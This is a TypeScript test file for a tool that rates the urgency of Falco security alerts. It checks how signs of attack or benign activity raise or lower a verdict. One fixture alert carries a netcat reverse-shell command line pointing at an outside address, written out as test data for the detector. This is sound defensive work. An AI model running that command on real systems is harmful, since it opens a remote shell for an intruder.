import { describe, expect, it } from 'vitest'
import { PRIORITIES, type Priority } from '../../src/model/event.ts'
import type { Sign } from '../../src/model/report.ts'
import { loadKnowledge } from '../../src/knowledge/load.ts'
import { incidentUrgency, rateUrgency } from '../../src/report/urgency.ts'
import { alertText } from '../support/alerts.ts'
import { reportInput } from '../support/events.ts'
import { plain } from './parts.ts'

function sign(
  kind: Sign['kind'],
  outcome: Sign['outcome'] = 'met',
  likely: string | null = null,
): Sign {
  return {
    kind,
    outcome,
    likely,
    text: [{ text: `${kind} ${outcome}` }],
    evidence: [],
    missing: [],
  }
}

const ATTACK = sign('attack')
const LIKELY = sign('attack', 'met', 'miner')
const BENIGN = sign('benign')

describe('the urgency', () => {
  it('is that of the priority while nothing is decided', () => {
    const levels = PRIORITIES.map((priority) => rateUrgency([], priority).level)
    expect(levels).toEqual(['now', 'now', 'now', 'today', 'today', 'later', 'later', 'later'])
    expect(
      rateUrgency([sign('attack', 'unknown'), sign('attack', 'not-met')], 'Notice'),
    ).toMatchObject({
      level: 'later',
      verdict: null,
    })
  })

  it.each<[Priority, readonly Sign[], string, string | null]>([
    ['Notice', [ATTACK], 'today', 'Look at it today: 1 sign of an attack'],
    ['Notice', [ATTACK, ATTACK], 'now', 'Treat as critical: 2 signs of an attack'],
    ['Warning', [ATTACK], 'now', 'Treat as critical: 1 sign of an attack'],
    ['Debug', [LIKELY], 'now', 'Treat as critical: likely miner'],
    ['Critical', [ATTACK], 'now', null],
    ['Critical', [LIKELY], 'now', 'Treat as critical: likely miner'],
    ['Notice', [ATTACK, BENIGN], 'today', 'Look at it today: 1 sign of an attack'],
    ['Warning', [BENIGN], 'later', null],
    ['Critical', [BENIGN], 'today', null],
    ['Debug', [BENIGN, BENIGN], 'later', null],
    ['Warning', [sign('benign', 'unknown')], 'today', null],
  ])('of %s with %j is %s', (priority, signs, level, verdict) => {
    expect(rateUrgency(signs, priority)).toMatchObject({ level, verdict, priority })
  })

  it('says because of what', () => {
    const because = (signs: readonly Sign[]) => rateUrgency(signs, 'Warning').because.map(plain)
    expect(because([ATTACK, BENIGN])).toEqual(['attack met'])
    expect(because([BENIGN])).toEqual(['benign met', 'Falco rates it Warning.'])
    expect(because([])).toEqual(['Falco rates it Warning.'])
  })
})

describe('the urgency of an incident', () => {
  it('is that of the alert whose signs say most, by the name of its rule', () => {
    const quiet = { rule: 'Read sensitive file untrusted', priority: 'Warning' }
    const shell = {
      output_fields: {
        'k8s.ns.name': 'shop',
        'k8s.pod.name': 'web-6d4cf56db6-x7k2p',
        'proc.name': 'sh',
        'proc.cmdline': 'sh -c nc -e /bin/sh 203.0.113.9 4444',
      },
    }
    const input = reportInput([alertText(quiet), alertText(shell)])
    const { level, verdict, priority, because } = incidentUrgency(input, loadKnowledge(null))
    expect({ level, verdict, priority }).toEqual({
      level: 'now',
      verdict: 'Treat as critical: likely reverse shell',
      priority: 'Warning',
    })
    expect(plain(because[0] ?? [])).toMatch(/^‹Terminal shell in container›: /)
    expect(incidentUrgency(reportInput([alertText(quiet)]), loadKnowledge(null)).level).toBe(
      'today',
    )
  })
})
